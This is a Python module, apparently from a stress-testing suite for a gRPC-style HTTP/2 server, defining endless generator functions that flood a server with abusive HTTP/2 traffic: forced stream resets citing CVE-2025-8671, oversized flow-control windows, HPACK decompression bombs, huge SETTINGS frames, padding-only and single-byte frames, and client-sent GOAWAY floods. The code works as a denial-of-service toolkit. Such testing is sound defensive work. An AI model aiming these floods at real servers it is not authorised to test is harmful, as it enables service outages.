"""Rules of HTTP/2 that are stretched or broken without end, beyond the plain floods (floods.py)."""

import struct

from hyperframe import frame as frames

from .connection import HEALTH_PATH, PREDICT_PATH, WATCH_PATH, data, message
from .floods import taken_back

BLOCK = 500
_INDEX_62 = b"\xbe"  # the newest entry of the dynamic table (RFC 7541, 6.1)


def made_resets(open_connection):
    """Calls that the server must reset itself (CVE-2025-8671): WINDOW_UPDATE by nothing on each of them."""
    connection = open_connection()
    while True:
        block = []
        for _ in range(100):
            stream, head = connection.headers(PREDICT_PATH)
            block += [head, struct.pack(">I", 4)[1:] + b"\x08\x00" + struct.pack(">II", stream, 0)]
        connection.send(b"".join(block))
        connection.drain()
        yield 200


def overflowing_windows(open_connection):
    """The same by windows that grow beyond 2 GB."""
    connection = open_connection()
    while True:
        block = []
        for _ in range(100):
            stream, head = connection.headers(PREDICT_PATH)
            block += [head, *[frames.WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()] * 2]
        connection.send(b"".join(block))
        connection.drain()
        yield 300


def half_closed(open_connection):
    """Calls that end with their headers, without a message."""
    connection = open_connection()
    while True:
        connection.send(b"".join(connection.headers(PREDICT_PATH, end_stream=True)[1] for _ in range(100)))
        connection.drain()
        yield 100


def data_after_the_end(open_connection):
    """DATA for calls that are over."""
    connection = open_connection()
    stream, head = connection.headers(HEALTH_PATH)
    connection.send(head + data(stream, message(b""), end_stream=True))
    while True:
        connection.send(data(stream, b"") * BLOCK)
        connection.drain()
        yield BLOCK


def repeated_trailers(open_connection):
    """Header blocks one after the other on one call."""
    connection = open_connection()
    stream, head = connection.headers(PREDICT_PATH)
    connection.send(head)
    block = frames.HeadersFrame(stream, b"\x00\x01a\x01b", flags=["END_HEADERS"]).serialize() * BLOCK
    yield from connection.repeat(block, BLOCK)


def table_bombs(open_connection):
    """Header blocks of a few KB that unpack to megabytes: one long entry of HPACK's table, named again and again."""
    connection = open_connection()
    entry = b"\x40\x01a" + b"\x7f\xb9\x1e" + b"v" * 4024  # with indexing, a value of 4,024 bytes
    while True:
        for more in (entry, _INDEX_62 * 8000):
            connection.send(connection.headers(HEALTH_PATH, more=more, end_stream=True)[1])
        connection.drain()
        yield 2


def table_sizes(open_connection):
    """HPACK's table made smaller and larger within each header block."""
    connection = open_connection()
    while True:
        block = []
        for _ in range(100):
            stream, head = connection.headers(HEALTH_PATH, end_stream=True)
            made, _ = frames.Frame.parse_frame_header(memoryview(head[:9]))
            changes = b"\x20\x3f\xe1\x1f"  # to 0, to 4,096
            block.append(frames.HeadersFrame(stream, changes + head[9:], flags=list(made.flags)).serialize())
        connection.send(b"".join(block))
        connection.drain()
        yield 100


def changing_windows(open_connection):
    """SETTINGS that change the windows of 200 open calls, thousands of times."""
    connection = open_connection()
    connection.send(b"".join(connection.headers(PREDICT_PATH)[1] for _ in range(200)))
    size = frames.SettingsFrame.INITIAL_WINDOW_SIZE
    block = b"".join(
        frames.SettingsFrame(0, settings={size: 65535 + number % 2}).serialize() for number in range(BLOCK)
    )
    yield from connection.repeat(block, BLOCK)


def long_settings(open_connection):
    """SETTINGS frames of 2,730 entries each."""
    connection = open_connection()
    payload = struct.pack(">HI", 0x7777, 1) * 2730
    block = struct.pack(">I", len(payload))[1:] + b"\x04\x00" + bytes(4) + payload
    yield from connection.repeat(block * 4, 4)


def padding(open_connection):
    """DATA frames that are padding and nothing else."""
    connection = open_connection()
    stream, head = connection.headers(PREDICT_PATH)
    connection.send(head)
    while True:
        made = frames.DataFrame(stream, b"", pad_length=255)
        made.flags.add("PADDED")
        connection.wait_for_window(stream, 256)
        connection.send(made.serialize())
        yield 1


def tiny_data(open_connection):
    """Bodies of 60 MB in DATA frames of 24 bytes."""
    connection = open_connection()
    stream, head = connection.headers(PREDICT_PATH)
    connection.send(head + data(stream, struct.pack(">BI", 0, 60_000_000)))
    block = data(stream, bytes(24)) * 400
    while True:
        connection.wait_for_window(stream, 24 * 400)
        connection.send(block)
        yield 400


def goaways(open_connection):
    """GOAWAY frames, which are the server's to send."""
    connection = open_connection()
    block = frames.GoAwayFrame(0, last_stream_id=0, error_code=0, additional_data=b"x" * 100).serialize() * BLOCK
    yield from connection.repeat(block, BLOCK)


def single_bytes(open_connection):
    """Good calls, each byte in a packet of its own."""
    connection = open_connection()
    connection.socket.setsockopt(6, 1, 1)  # TCP_NODELAY
    while True:
        stream, head = connection.headers(HEALTH_PATH)
        for byte in head + data(stream, message(b""), end_stream=True):
            connection.send(bytes([byte]))
        connection.drain()
        yield 1


def watches(open_connection):
    """Health/Watch, taken back as soon as it is asked for."""
    return taken_back(open_connection, WATCH_PATH, 50, whole=True)


HTTP2_FLOODS = [
    made_resets,
    overflowing_windows,
    half_closed,
    data_after_the_end,
    repeated_trailers,
    table_bombs,
    table_sizes,
    changing_windows,
    long_settings,
    padding,
    tiny_data,
    goaways,
    single_bytes,
    watches,
]
